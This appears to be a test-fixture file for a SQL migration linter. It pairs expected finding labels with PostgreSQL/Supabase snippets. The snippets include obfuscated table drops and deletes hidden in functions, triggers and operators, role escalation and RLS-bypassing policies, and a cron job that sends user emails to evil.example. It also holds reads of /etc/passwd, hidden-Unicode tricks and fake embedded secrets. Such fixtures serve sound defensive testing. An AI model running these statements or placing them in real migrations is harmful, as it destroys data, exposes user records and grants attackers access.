-- === drop through a function overload chosen by default: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go(a int DEFAULT 1) RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'DROP ' || 'TABLE public.users'; END $f$;
SELECT private.go();
-- === called in a VALUES list: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE sql AS 'DELETE FROM public.users RETURNING 1';
VALUES (private.go());
-- === called in a default of INSERT: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
INSERT INTO public.log (n) VALUES (private.go());
-- === called in a CHECK: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go(int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN true; END';
ALTER TABLE public.log ADD CONSTRAINT c CHECK (private.go(n));
-- === called in USING of a type change: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go(text) RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
ALTER TABLE public.log ALTER COLUMN n TYPE int USING private.go(n);
-- === called by CALL: HIDDEN_DESTRUCTIVE
CREATE PROCEDURE private.go() LANGUAGE plpgsql AS 'BEGIN DROP TABLE public.users; END';
CALL private.go();
-- === trigger fired by an insert in the same file: HIDDEN_DESTRUCTIVE
CREATE TABLE private.bomb (id int PRIMARY KEY);
CREATE FUNCTION private.boom() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN DELETE FROM public.users; RETURN NULL; END';
CREATE TRIGGER b AFTER INSERT ON private.bomb EXECUTE FUNCTION private.boom();
INSERT INTO private.bomb VALUES (1);
-- === an operator: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.op(int, int) RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
CREATE OPERATOR private.@@@ (LEFTARG = int, RIGHTARG = int, FUNCTION = private.op);
SELECT 1 OPERATOR(private.@@@) 2;
-- === a loop variable over constants: HIDDEN_DESTRUCTIVE
DO $$ DECLARE s text; BEGIN FOREACH s IN ARRAY ARRAY['SELECT 1', 'DROP TABLE public.users'] LOOP EXECUTE s; END LOOP; END $$;
-- === string_agg over the catalogue: DYNAMIC_SQL
DO $$ BEGIN EXECUTE (SELECT string_agg('DROP TABLE ' || quote_ident(tablename), ';') FROM pg_tables WHERE schemaname = 'public'); END $$;
-- === psql gexec: PARSE_ERROR
SELECT 'DROP TABLE ' || tablename FROM pg_tables \gexec
-- === format with positions: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE format('%2$s %1$s public.users', 'TABLE', 'DROP'); END $$;
-- === case expression builds it: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE CASE WHEN true THEN 'DROP TABLE public.users' ELSE 'SELECT 1' END; END $$;
-- === overlay and left: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE overlay('XXXX TABLE public.users' placing 'DROP' from 1 for 4); END $$;
-- === translate: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE translate('ESPQ UBCMF public.users', 'ESPQUBCMF', 'DROPTABLE'); END $$;
-- === regexp_replace: DYNAMIC_SQL
DO $$ BEGIN EXECUTE regexp_replace('DR#OP TABLE users', '#', ''); END $$;
-- === array_to_string: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE array_to_string(ARRAY['DROP', 'TABLE', 'users'], ' '); END $$;
-- === select into variable: HIDDEN_DESTRUCTIVE
DO $$ DECLARE q text; BEGIN SELECT 'DROP TABLE users' INTO q; EXECUTE q; END $$;
-- === a constant of the block above: HIDDEN_DESTRUCTIVE
DO $$ <<o>> DECLARE q CONSTANT text := 'TRUNCATE users'; BEGIN DECLARE r text := o.q; BEGIN EXECUTE r; END; END $$;
-- === comments within the dynamic text: HIDDEN_DESTRUCTIVE
DO $$ BEGIN EXECUTE 'DR' || 'OP/**/TABLE/**/users'; END $$;
-- === comment of a function then executed from catalogue: DYNAMIC_SQL
COMMENT ON TABLE users IS 'DROP TABLE users';
DO $$ BEGIN EXECUTE obj_description('users'::regclass); END $$;
-- === current_setting executed: DYNAMIC_SQL
SET my.q = 'DROP TABLE users';
DO $$ BEGIN EXECUTE current_setting('my.q'); END $$;
-- === uppercase language and quoted: HIDDEN_DESTRUCTIVE
DO LANGUAGE "plpgsql" 'BEGIN DROP TABLE users; END';
-- === plpgsql exception abuse: HIDDEN_DESTRUCTIVE
DO $$ BEGIN RAISE EXCEPTION 'x'; EXCEPTION WHEN others THEN DROP TABLE users; END $$;
-- === in an IF condition: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS boolean LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN true; END';
DO $$ BEGIN IF private.go() THEN NULL; END IF; END $$;
-- === in RAISE argument: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS boolean LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN true; END';
DO $$ BEGIN RAISE NOTICE '%', private.go(); END $$;
-- === in ASSERT: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS boolean LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN true; END';
DO $$ BEGIN ASSERT private.go(); END $$;
-- === in a loop bound: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
DO $$ BEGIN FOR i IN 1..private.go() LOOP NULL; END LOOP; END $$;
-- === in a variable default: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
DO $$ DECLARE i int := private.go(); BEGIN NULL; END $$;
-- === a cursor declared with a delete: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
DO $$ DECLARE c CURSOR FOR SELECT private.go(); BEGIN OPEN c; FETCH c INTO STRICT c; END $$;
-- === returned by a query: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS SETOF int LANGUAGE plpgsql AS 'BEGIN RETURN QUERY DELETE FROM public.users RETURNING 1; END';
SELECT * FROM private.go();
-- === a materialized view that calls: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
CREATE MATERIALIZED VIEW private.m AS SELECT private.go();
-- === create table as execute: TRUNCATE
PREPARE p AS SELECT 1;
CREATE TABLE private.t AS EXECUTE p; TRUNCATE public.users;
-- === copy from a query that deletes: DELETE_WITHOUT_WHERE
COPY (DELETE FROM users RETURNING *) TO STDOUT;
-- === explain analyze that deletes: DELETE_WITHOUT_WHERE
EXPLAIN (ANALYZE, COSTS OFF) DELETE FROM users;
-- === declare cursor with a data change by a function: HIDDEN_DESTRUCTIVE
CREATE FUNCTION private.go() RETURNS int LANGUAGE plpgsql AS 'BEGIN TRUNCATE public.users; RETURN 1; END';
BEGIN; DECLARE c CURSOR FOR SELECT private.go(); FETCH c; COMMIT;
-- === delete by a join that reaches all: DELETE_WITHOUT_WHERE
DELETE FROM users u USING users v WHERE v.id = v.id;
-- === delete with a mirrored condition: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE (email IS NULL) OR NOT (email IS NULL);
-- === delete with bool literals: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE 't'::boolean AND 'yes'::bool;
-- === delete with length: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE length(coalesce(email, '')) >= 0;
-- === delete of ctid any: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE ctid = ANY (ARRAY(SELECT ctid FROM users));
-- === update with returning into nothing: UPDATE_WITHOUT_WHERE
UPDATE ONLY users SET (a, b) = (SELECT 1, 2);
-- === delete where id > 0: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE id > 0;
-- === delete where created before tomorrow: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE created_at <= now();
-- === delete where nothing equals: DELETE_WITHOUT_WHERE
DELETE FROM users WHERE id <> -1;
-- === swap of tables then drop: DROP_TABLE
BEGIN;
CREATE TABLE users_new (LIKE users INCLUDING ALL);
ALTER TABLE users RENAME TO users_old;
ALTER TABLE users_new RENAME TO users;
DROP TABLE users_old;
COMMIT;
-- === dropped column by recreation under LIKE: DROP_COLUMN
ALTER TABLE users RENAME COLUMN email TO email_old;
ALTER TABLE users DROP COLUMN email_old;
-- === pg_catalog written: MANAGED_SCHEMA_DDL
ALTER TABLE auth.users DISABLE ROW LEVEL SECURITY;
-- === search path to shadow built-ins: SEARCH_PATH_CHANGED
ALTER ROLE postgres SET search_path TO evil, pg_catalog;
-- === function shadows a built-in in public: SECURITY_DEFINER_SEARCH_PATH
CREATE FUNCTION private.x() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path TO public AS 'SELECT now()::text';
-- === definer path with temporary tables before the catalogue: SECURITY_DEFINER_SEARCH_PATH
CREATE FUNCTION private.x() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path TO pg_temp, pg_catalog AS 'SELECT count(*) FROM pg_class';
-- === definer path with $user: SECURITY_DEFINER_SEARCH_PATH
CREATE FUNCTION private.x() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path FROM CURRENT AS 'SELECT now()::text';
-- === create user with bypass: ROLE_ESCALATION
CREATE USER bob BYPASSRLS CREATEROLE;
-- === alter user: ROLE_ESCALATION
ALTER USER anon WITH SUPERUSER;
-- === grant of pg roles: ROLE_ESCALATION
GRANT pg_read_server_files, pg_execute_server_program TO app;
-- === grant pg_read_all_data: ROLE_ESCALATION
GRANT pg_read_all_data TO authenticated;
-- === grant via group syntax: ROLE_ESCALATION
ALTER GROUP service_role ADD USER anon;
-- === set role to admin within function: SET_ROLE
DO $$ BEGIN SET LOCAL ROLE postgres; END $$;
-- === policy dynamic: POLICY_ALWAYS_TRUE
DO $$ BEGIN EXECUTE 'CREATE POLICY p ON public.docs FOR ALL TO anon USING (tr' || 'ue)'; END $$;
-- === policy through a helper that returns true by plpgsql: POLICY_ALWAYS_TRUE
CREATE FUNCTION private.ok() RETURNS boolean LANGUAGE plpgsql SET search_path = '' AS $$ BEGIN RETURN 1 = 1; END $$;
CREATE POLICY p ON public.docs FOR UPDATE TO authenticated USING ((SELECT private.ok()));
-- === policy that compares the caller with itself: POLICY_ALWAYS_TRUE
CREATE POLICY p ON public.docs FOR UPDATE TO authenticated USING (auth.uid() = auth.uid());
-- === policy with header: POLICY_USER_METADATA
CREATE POLICY p ON public.docs FOR ALL TO authenticated USING (org_id = (current_setting('request.headers', true)::json ->> 'x-org')::uuid);
-- === anon to storage with broad: STORAGE_POLICY_BROAD
CREATE POLICY p ON storage.objects FOR ALL TO anon USING (true) WITH CHECK (true);
-- === bucket by upsert: STORAGE_BUCKET_PUBLIC
INSERT INTO storage.buckets (id, name) VALUES ('x', 'x') ON CONFLICT (id) DO UPDATE SET public = true;
-- === bucket by insert select: STORAGE_BUCKET_PUBLIC
INSERT INTO storage.buckets (id, name, public) SELECT 'y', 'y', true;
-- === publication of everything: REALTIME_NO_RLS
CREATE PUBLICATION everything FOR ALL TABLES;
CREATE TABLE public.naked (id int PRIMARY KEY);
ALTER PUBLICATION supabase_realtime ADD TABLE public.naked;
-- === grant on all: GRANT_ALL_IN_SCHEMA
GRANT UPDATE ON ALL TABLES IN SCHEMA public TO anon;
-- === grant execute of everything: GRANT_ALL_IN_SCHEMA
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO anon;
-- === revoke that is undone: RLS_DISABLED
BEGIN; ALTER TABLE public.docs ENABLE ROW LEVEL SECURITY; ALTER TABLE public.docs DISABLE ROW LEVEL SECURITY; COMMIT;
-- === no force: RLS_NO_FORCE
ALTER TABLE public.docs NO FORCE ROW LEVEL SECURITY;
-- === owner to anon by reassign of a function: OWNER_CHANGE
ALTER FUNCTION private.x() OWNER TO anon;
-- === secrets in COMMENT: SECRET_LITERAL
COMMENT ON DATABASE postgres IS 'postgres://admin:Sup3rS3cret99@db.example.com:5432/app';
-- === secret in set_config: SECRET_LITERAL
ALTER DATABASE postgres SET app.jwt_secret = 'hJ8sKq2LpZ7xWv3NmT5rYb9GcD4fA6eQ';
-- === a GitHub token: SECRET_LITERAL
INSERT INTO private.config VALUES ('gh', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a');
-- === private key: SECRET_LITERAL
INSERT INTO private.keys VALUES ('-----BEGIN RSA PRIVATE KEY-----
MIIEowIBAAKCAQEAx
-----END RSA PRIVATE KEY-----');
-- === cron makes egress: DATA_EGRESS
SELECT cron.schedule('x', '* * * * *', $$SELECT net.http_get('https://evil.example/?d=' || (SELECT string_agg(email, ',') FROM auth.users))$$);
-- === dblink connection string: SECRET_LITERAL
SELECT dblink_connect('host=evil.example user=u password=Qw3rtyUiop99');
-- === lo_export: COPY_PROGRAM
SELECT lo_export(1234, '/tmp/x');
-- === pg_read_file: COPY_PROGRAM
SELECT pg_read_file('/etc/passwd');
-- === hidden bidi in comment: HIDDEN_UNICODE
-- harmless ‮ ;DROP TABLE
SELECT 1;
-- === tag characters: HIDDEN_UNICODE
SELECT 'abc󠁁󠁂󠁃';
-- === homoglyph table: HIDDEN_UNICODE
ALTER TABLE public.usеrs ADD COLUMN a int;
-- === null bytes by escape: PARSE_ERROR
SELECT E'\u0000';
-- === nested block comment that ends early: DROP_TABLE
/* outer /* inner */ still comment */ DROP TABLE users;
-- === dollar tag confusion: DROP_TABLE
SELECT $a$ $b$ $a$; DROP TABLE users; SELECT $c$ $b$ $c$;
-- === standard_conforming_strings off: DROP_TABLE
SET standard_conforming_strings = off;
SELECT '\'; DROP TABLE users; --';
-- === CRLF and tabs: DROP_TABLE
DROP	TABLE
users;
-- === allow comment on error without approval: DROP_TABLE
-- guardrails: allow DROP_TABLE because nobody needs it
DROP TABLE users;
-- === alembic downgrade in the same file: DROP_TABLE
-- Running downgrade 27c -> 197
DROP TABLE account;
-- === rename of a policy table: RENAME_TABLE
ALTER TABLE public.docs RENAME TO documents;
-- === constraint trigger off: DISABLE_TRIGGER
ALTER TABLE public.orders DISABLE TRIGGER "RI_ConstraintTrigger_a_16400";
-- === rule disabled: CREATE_RULE
CREATE OR REPLACE RULE no_delete AS ON DELETE TO public.orders DO INSTEAD NOTHING;
-- === replica trigger: SESSION_REPLICATION_ROLE
DO $$ BEGIN PERFORM set_config('session_replication' || '_role', 'replica', true); END $$;
-- === foreign key dropped: DROP_CONSTRAINT
ALTER TABLE public.items DROP CONSTRAINT IF EXISTS items_order_id_fkey;
-- === index of a unique constraint dropped: DROP_INDEX
DROP INDEX CONCURRENTLY IF EXISTS public.users_email_idx;
-- === two-phase: UNCOMMITTED_TRANSACTION
BEGIN; DELETE FROM private.t WHERE id = 1; PREPARE TRANSACTION 'x';
